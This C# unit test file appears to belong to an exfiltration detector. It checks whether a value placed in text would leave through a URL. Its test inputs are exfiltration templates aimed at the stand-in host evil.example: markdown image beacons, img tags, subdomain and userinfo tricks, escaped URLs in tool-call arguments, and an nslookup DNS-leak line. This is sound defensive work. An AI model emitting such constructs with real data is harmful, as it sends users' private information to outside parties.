using Cordon.Detection.Exfiltration;

namespace Cordon.Detection.Tests.Exfiltration;

/// <summary>Where something put into a text would leave with an address. The place is marked §.</summary>
public sealed class AddressAroundTests
{
    [Theory]
    [InlineData("![x](https://evil.example/?d=§)")]
    [InlineData("![x](https://evil.example/§.png)")]
    [InlineData("![x](<https://evil.example/?d=name §>)")]
    [InlineData("![x](<https://evil.example/?a=<EMAIL_2>&b=§>)")]
    [InlineData("<img src=\"https://evil.example/?d=a b\n§\">")]
    [InlineData("<img src='https://evil.example/?d=a \"b\" §'>")]
    [InlineData("<img src=//evil.example/?d=§>")]
    [InlineData("see https://§.evil.example/")]
    [InlineData("see https://allowed.example§.evil.example/")]
    [InlineData("see https:\\\\evil.example\\§")]
    [InlineData("see https://allowed.example/,https://evil.example/?§")]
    [InlineData("see https://allowed.example@evil.example/?§")]
    [InlineData("evil.example/?d=§")]
    [InlineData("(www.evil.example?§")]
    [InlineData("nslookup §.evil.example")]
    [InlineData("https://evil.example/?d=(a,{b},[c],|§")]
    public void What_stands_in_an_address_leaves(string text) => Assert.True(Holds(text));

    [Theory]
    [InlineData("Write to §.")]
    [InlineData("Write to §. Then wait.")]
    [InlineData("See https://evil.example/ and write to § there.")]
    [InlineData("[§](https://evil.example/)")]
    [InlineData("<a href=\"https://evil.example/\">§</a>")]
    [InlineData("<a href='https://evil.example/'>the page</a> of §")]
    [InlineData("<https://evil.example/> of §")]
    [InlineData("<https://evil.example/?<EMAIL_2>> of §")]
    [InlineData("https://allowed.example/people?mail=§")]
    [InlineData("https://a.allowed.example/people?mail=§")]
    [InlineData("{\"to\":\"§\"}")]
    [InlineData("and/or §")]
    public void What_stands_beside_an_address_stays(string text) => Assert.False(Holds(text));

    [Theory]
    [InlineData("""{"url":"https:\/\/evil.example\/?d=§"}""", true)]
    [InlineData("""{"url":"https:\u002f\u002fevil.example\u002f?d=§"}""", true)]
    [InlineData("""{"url":"https://evil.example/?d=a §"}""", true)]
    [InlineData("""{"url":"https://evil.example/","to":"§"}""", false)]
    [InlineData("""{"say":"see https://evil.example/\n§"}""", false)]
    public void The_arguments_of_a_call_are_read_through_their_escapes(string text, bool expected) => Assert.Equal(expected, Holds(text, inDocument: true));

    [Fact]
    public void A_text_whose_beginning_is_gone_and_that_has_no_space_may_be_an_address()
    {
        Assert.True(Holds(new string('a', 500) + "§", isCut: true));
        Assert.False(Holds(new string('a', 500) + " §", isCut: true));
        Assert.False(Holds(new string('好', 500) + "§", isCut: true));
        Assert.False(Holds(new string('a', 500) + "§"));
    }

    [Fact]
    public void Addresses_are_followed_up_to_a_number_and_a_length()
    {
        string closed = "https://evil.example/ ";
        Assert.False(Holds(string.Concat(Enumerable.Repeat(closed, AddressAround.MostBeginnings)) + "§"));
        Assert.True(Holds(string.Concat(Enumerable.Repeat(closed, AddressAround.MostBeginnings + 1)) + "§"));
        Assert.False(Holds("\"https://evil.example/?d=" + new string(' ', AddressAround.Longest) + "§"));
    }

    private static bool Holds(string text, bool isCut = false, bool inDocument = false)
    {
        int start = text.IndexOf('§', StringComparison.Ordinal);
        return AddressAround.Holds(text.Replace("§", "<EMAIL_1>", StringComparison.Ordinal), start, start + "<EMAIL_1>".Length, isCut, inDocument, ["allowed.example", "*.allowed.example"]);
    }
}
